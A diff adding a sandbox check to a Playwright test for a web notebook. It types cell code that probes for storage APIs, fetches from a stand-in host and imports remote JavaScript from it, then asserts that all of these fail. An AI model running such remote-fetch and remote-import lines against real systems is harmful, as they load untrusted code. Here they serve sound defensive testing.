@@ -91,4 +91,21 @@ test("names are completed, with what they do", async ({page}) => {
   await expect(page.getByRole("option", {name: "maps"})).toBeVisible();
   await expect(page.locator(".cm-completionInfo")).toContainText("One channel as colours");
   notebook.expectNoProblem();
+
+  // Cells, which a link may have brought, have nothing of what this origin keeps, and reach no other host, which would answer here.
+  const answered: string[] = [];
+  await page.route("https://elsewhere.example/**", (route) => {
+    answered.push(route.request().url());
+    return route.fulfill({contentType: "text/javascript", headers: {"access-control-allow-origin": "*"}, body: ""});
+  });
+  await page.keyboard.press("Escape");
+  await page.keyboard.press("ControlOrMeta+a");
+  await page.keyboard.insertText(`[
+    ...["indexedDB", "caches", "Worker", "BroadcastChannel"].map((name) => name in globalThis),
+    await fetch("https://elsewhere.example/?photo").catch(({message}) => message),
+    await eval('import("https://elsewhere.example/photo.js")').then(() => "came", () => "did not come")
+  ].join(" ")`);
+  await page.keyboard.press("Shift+Enter");
+  await expect(page.getByText("false false false false Cells read the files of this site alone.")).toContainText("did not come");
+  expect(answered).toEqual([]);
 });
